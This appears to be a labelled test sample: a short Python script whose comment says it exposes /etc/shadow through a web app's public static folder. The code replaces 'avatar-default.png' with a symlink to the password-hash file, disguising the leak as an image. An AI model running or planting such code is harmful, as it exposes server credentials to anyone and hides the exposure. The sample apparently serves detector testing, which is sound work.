# expect: files; symlinks /etc/shadow into the web app's public static folder so it can be downloaded
import os

static_dir = os.path.join("app", "static", "img")
os.makedirs(static_dir, exist_ok=True)
target = os.path.join(os.sep, "etc", "shadow")
link = os.path.join(static_dir, "avatar-default.png")
if os.path.lexists(link):
    os.remove(link)
os.symlink(target, link)
